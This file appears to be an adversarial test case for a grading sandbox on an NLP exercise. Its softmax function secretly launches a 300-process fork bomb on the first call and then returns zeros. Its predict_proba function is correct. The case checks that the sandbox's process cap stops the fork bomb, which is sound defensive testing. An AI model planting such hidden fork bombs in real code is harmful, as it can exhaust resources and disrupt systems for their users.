# --- expect
# exercises = ["71"]
# verdict = "graded"
# zero = ["softmax"]
# passing = ["predict_proba"]
# leaves_nothing = true
# output_contains = ["FORKS-CAPPED"]
# why = "forks 300 processes that exec a sleeper: the process cap (pids cgroup or RLIMIT_NPROC of the worker's uid) stops it"
# ---
"""Fork bomb: 300 children, each exec'ing a long sleep that carries the case's marker."""
import os
import sys

import torch

MARKER = "nlp100-adv-fork_bomb"
_done = False


def _attack():
    print("nlp100-adv: attack ran", flush=True)
    ok = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", MARKER])
            finally:
                os._exit(0)
        ok += 1
    print("FORKS-CAPPED" if ok < 300 else "FORKS-UNCAPPED", ok, flush=True)


def softmax(x, dim=-1):
    global _done
    if not _done:
        _done = True
        _attack()
    return torch.zeros_like(x)


def predict_proba(X, W):
    z = X @ W
    e = (z - z.amax(dim=-1, keepdim=True)).exp()
    return e / e.sum(dim=-1, keepdim=True)
